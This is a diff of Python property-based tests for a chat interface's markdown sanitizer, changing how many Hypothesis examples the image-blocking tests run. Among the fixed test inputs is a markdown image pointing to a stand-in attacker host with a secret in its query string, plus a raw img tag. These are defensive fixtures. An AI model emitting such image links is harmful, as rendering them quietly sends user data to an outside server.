@@ -13,6 +13,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from gateway.blocks import settled_length
+from tests.support.properties import examples
 from ui.markdown import displayable, escape_dollars, inline_code, plain, safe_markdown
 
 RENDER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])  # as Streamlit: raw HTML is text
@@ -176,14 +177,14 @@ PIECES = st.sampled_from([
 DOCUMENTS = st.lists(PIECES, max_size=40).map("".join)
 
 
-@settings(max_examples=400, deadline=None)
+@settings(max_examples=examples(400), deadline=None)
 @given(DOCUMENTS)
 def test_no_markdown_at_all_yields_an_image(document):
     safe = displayable(document)
     assert not loads(safe.replace("\\$", "$")), safe
 
 
-@settings(max_examples=200, deadline=None)
+@settings(max_examples=examples(200), deadline=None)
 @given(DOCUMENTS, st.integers(min_value=0, max_value=2000))
 def test_any_piece_a_streaming_reply_is_drawn_in_is_safe(document, cut):
     """ui/live.py draws settled blocks and the tail each on their own: every piece is safe on its own."""
@@ -193,7 +194,7 @@ def test_any_piece_a_streaming_reply_is_drawn_in_is_safe(document, cut):
         assert not loads(displayable(piece)), piece
 
 
-@settings(max_examples=200, deadline=None)
+@settings(max_examples=examples(200), deadline=None)
 @given(DOCUMENTS)
 @example("[![i](https://e.example/i.png)](https://l.example)![a][r]")  # two insertions at one place (found)
 @example("\\![a](https://e.example/p.png)")  # an escaped `!` stays escaped (found)
@@ -220,7 +221,7 @@ def _text_of(markdown: str) -> str:
                    for child in token.children if child.type in ("text", "code_inline"))
 
 
-@settings(max_examples=400, deadline=None)
+@settings(max_examples=examples(400), deadline=None)
 @given(st.one_of(DOCUMENTS, st.text()))
 @example("Inline: ![chart](https://attacker.example/p.png?d=secret)")
 @example(":red[alarm] :material/warning: <img src=x>")
